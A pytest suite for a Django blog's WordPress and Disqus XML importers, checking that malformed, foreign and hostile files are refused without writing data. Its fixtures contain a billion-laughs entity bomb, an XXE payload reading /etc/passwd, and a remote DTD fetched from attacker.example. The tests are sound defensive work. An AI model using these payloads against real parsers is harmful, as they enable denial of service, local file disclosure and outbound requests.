"""XML bombs, foreign and broken files are refused with one clear line, writing nothing."""

import pytest
from django.core.management import CommandError, call_command

from blog.models import Post
from comments.models import Comment
from imports import threads

pytestmark = pytest.mark.django_db

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss><channel><title>&lol9;</title></channel></rss>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss><channel><title>&xxe;</title></channel></rss>
"""
DTD_RETRIEVAL = """<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
<rss><channel><title>x</title></channel></rss>
"""


def refused(command, tmp_path, content, name="file.xml"):
    path = tmp_path / name
    path.write_text(content) if isinstance(content, str) else path.write_bytes(content)
    with pytest.raises(CommandError) as error:
        call_command(command, str(path))
    message = str(error.value)
    assert "\n" not in message
    assert Post.objects.count() == 0
    assert Comment.objects.count() == 0
    return message


@pytest.mark.parametrize("command", ["import_wordpress", "import_disqus"])
@pytest.mark.parametrize("bomb", [BILLION_LAUGHS, EXTERNAL_ENTITY, DTD_RETRIEVAL])
def test_xml_bombs_external_entities_and_remote_dtds_are_refused(command, bomb, tmp_path):
    message = refused(command, tmp_path, bomb)
    assert "refused" in message and "DTD" in message


def test_the_streaming_parser_itself_refuses_a_bomb_before_expanding_it(tmp_path):
    from imports.xmlfile import ExportFileError, iterparse

    path = tmp_path / "entity.xml"
    path.write_text(BILLION_LAUGHS)
    with pytest.raises(ExportFileError, match="refused"):
        list(iterparse(path))


def test_a_truncated_export_imports_nothing(data, tmp_path):
    text = (data / "newsroom.wxr.xml").read_text()
    cut = text[: text.index("Timetable changes next spring")]
    message = refused("import_wordpress", tmp_path, cut)
    assert "not a complete, well-formed XML file" in message


def test_a_file_that_is_not_a_wordpress_export_is_refused(data, tmp_path):
    assert "not a WordPress export" in refused(
        "import_wordpress", tmp_path, "<?xml version='1.0'?><html><body/></html>"
    )
    assert "not a WordPress export" in refused(
        "import_wordpress", tmp_path, "<rss><channel><item/></channel></rss>"
    )
    disqus = (data / "courier.disqus.xml").read_text()
    assert "not a WordPress export" in refused("import_wordpress", tmp_path, disqus)
    wxr = (data / "newsroom.wxr.xml").read_text()
    assert "not a Disqus export" in refused("import_disqus", tmp_path, wxr)


def test_a_file_that_is_not_xml_at_all_is_refused(tmp_path):
    assert "well-formed" in refused("import_wordpress", tmp_path, b"\x89PNG\r\n\x1a\n\x00\x00")
    with pytest.raises(CommandError, match="cannot read"):
        call_command("import_wordpress", str(tmp_path / "missing.xml"))


def test_a_failure_while_writing_a_post_leaves_no_half_imported_post(data, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr("imports.wordpress.save_comments", broken)
    with pytest.raises(RuntimeError):
        call_command("import_wordpress", str(data / "newsroom.wxr.xml"))
    # The first post and its comments are one transaction: neither is there.
    assert not Post.objects.exists()
    assert not Comment.objects.exists()
    assert threads.save_comments is not broken
